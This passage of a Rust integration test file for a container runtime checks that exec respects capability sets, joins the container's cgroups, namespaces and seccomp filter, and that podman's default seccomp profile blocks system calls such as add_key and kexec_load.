    assert_eq!(cap_field(&o.stdout, "CapInh"), 0, "exec: {}", o.stdout);
    // exec --cap adds to the other sets, never to inheritable.
    let o = env.exec(
        &id,
        &["--cap", "CAP_NET_ADMIN", "grep", "Cap", "/proc/self/status"],
    );
    assert!(o.ok(), "{o:?}");
    assert_eq!(
        cap_field(&o.stdout, "CapInh"),
        0,
        "exec --cap: {}",
        o.stdout
    );
    assert_ne!(cap_field(&o.stdout, "CapEff") & (1 << 12), 0);
    // A process.json without inheritable, for exec --process.
    let pj = env.dir.join("process.json");
    let mut p = b.config["process"].clone();
    p["args"] = json!(["grep", "Cap", "/proc/self/status"]);
    std::fs::write(&pj, serde_json::to_vec(&p).unwrap()).unwrap();
    let o = env.exec(&id, &["--process", s(&pj)]);
    assert!(o.ok(), "{o:?}");
    assert_eq!(cap_field(&o.stdout, "CapInh"), 0);

    // Control: set in the spec, it is there.
    let mut b = env.bundle("b2", &["grep", "Cap", "/proc/self/status"]);
    b.process()["capabilities"]["inheritable"] = json!(["CAP_KILL"]);
    let o = env.run(&b, &env.id("c2"));
    assert!(o.ok(), "{o:?}");
    assert_eq!(cap_field(&o.stdout, "CapInh"), 1 << 5);
}

// ---------------------------------------------------------------------------
// exec enters the container's cgroups, namespaces and seccomp filter.
// ---------------------------------------------------------------------------

fn deny_mkdir() -> Value {
    json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "architectures": ["SCMP_ARCH_X86_64", "SCMP_ARCH_X86", "SCMP_ARCH_X32"],
        "syscalls": [{"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1}]
    })
}

#[test]
fn exec_joins_cgroups_namespaces_and_seccomp() {
    need_root!();
    let env = Env::new("join");
    let mut b = env.bundle("b", &["sleep", "100000"]);
    b.linux()["seccomp"] = deny_mkdir();
    b.linux()["namespaces"]
        .as_array_mut()
        .unwrap()
        .push(json!({"type": "cgroup"}));
    let id = env.id("c");
    env.start(&b, &id);
    let init = env.init_pid(&id);
    for (n, flags) in [("nnp", vec!["--no-new-privs"]), ("plain", vec![])] {
        let pidf = env.dir.join(format!("exec-{n}.pid"));
        let mut a = vec!["exec", "-d", "--pid-file", s(&pidf)];
        a.extend(flags.iter().copied());
        a.extend([id.as_str(), "sleep", "100000"]);
        let o = env.husk(&a);
        assert!(o.ok(), "{o:?}");
        let pid: i32 = std::fs::read_to_string(&pidf)
            .unwrap()
            .trim()
            .parse()
            .unwrap();
        assert_eq!(
            std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap(),
            std::fs::read_to_string(format!("/proc/{init}/cgroup")).unwrap(),
            "{n}: cgroups"
        );
        for ns in ["mnt", "pid", "net", "ipc", "uts", "cgroup"] {
            let a = std::fs::read_link(format!("/proc/{pid}/ns/{ns}")).unwrap();
            let b = std::fs::read_link(format!("/proc/{init}/ns/{ns}")).unwrap();
            assert_eq!(a, b, "{n}: {ns} namespace");
        }
        assert_eq!(status_field(pid, "Seccomp").as_deref(), Some("2"), "{n}");
        assert_eq!(status_field(init, "Seccomp").as_deref(), Some("2"));
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(pid),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
    let o = env.exec(&id, &["sh", "-c", "mkdir /tmp/x; echo rc=$?"]);
    assert!(o.ok(), "{o:?}");
    assert!(o.stdout.contains("rc=1"), "{o:?}");
    assert!(o.stderr.contains("Operation not permitted"), "{o:?}");
    assert!(!b.rootfs.join("tmp/x").exists());
}

// ---------------------------------------------------------------------------
// seccomp: podman's real profile.
// ---------------------------------------------------------------------------

include!("shared/podman_seccomp.rs");

const PROBE: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/syscall.h>
int main(void) {
    long r = syscall(SYS_add_key, "user", "husk", "x", 1, -2 /* session */);
    printf("add_key=%ld errno=%d\n", r, r < 0 ? errno : 0);
    r = syscall(SYS_kexec_load, 0, 0, 0, 0);
    printf("kexec_load=%ld errno=%d\n", r, r < 0 ? errno : 0);
    return 0;
}
"#;

#[test]
fn seccomp_podman_default_profile() {
    need_root!();
    use podman_seccomp::{default_caps, to_oci, PROFILE};
    if !Path::new(PROFILE).exists() {
        skip(&format!("{PROFILE} absent (apt-get install podman)"));
        return;
    }
    let env = Env::new("podman");
    let p: Value = serde_json::from_str(&std::fs::read_to_string(PROFILE).unwrap()).unwrap();
    let caps = default_caps();
    let oci = to_oci(&p, &caps);
    let mk = |name: &str, args: &[&str], seccomp: bool| {
        let mut b = env.bundle(name, args);
        b.process()["capabilities"] =
            json!({"bounding": caps, "effective": caps, "permitted": caps});
        if seccomp {
            b.linux()["seccomp"] = oci.clone();
        }
        b
    };
    let b = mk(
        "ok",
        &[
            "sh",
            "-c",
            "echo ok; ls / >/dev/null; cat /proc/self/status | grep Seccomp:",
        ],
        true,
    );
    let o = env.run(&b, &env.id("ok"));
    assert!(o.ok(), "{o:?}");
    assert!(
        o.stdout.starts_with("ok\n") && o.stdout.contains("Seccomp:\t2"),
        "{o:?}"
    );

    let b = mk("swap", &["sh", "-c", "swapoff /tmp 2>&1; true"], true);
    let o = env.run(&b, &env.id("swap"));
    assert!(o.ok(), "{o:?}");
    assert!(
        o.stdout.contains("not permitted") || o.stdout.contains("not implemented"),
        "{o:?}"
    );

    let cc = mk("probe", &["/probe"], true);
    if cc_static(PROBE, &cc.rootfs.join("probe")).is_some() {
        let o = env.run(&cc, &env.id("probe"));
        assert!(o.ok(), "{o:?}");
        // Not in the profile: the default action, ENOSYS (38).
        assert!(o.stdout.contains("add_key=-1 errno=38"), "{o:?}");
        assert!(o.stdout.contains("kexec_load=-1 "), "{o:?}");
        // Control: without the filter add_key is a plain system call.
        let c = mk("control", &["/probe"], false);
        cc_static(PROBE, &c.rootfs.join("probe")).unwrap();
        let o = env.run(&c, &env.id("control"));
        assert!(o.ok(), "{o:?}");
        assert!(!o.stdout.contains("add_key=-1 errno=38"), "{o:?}");
    }
}
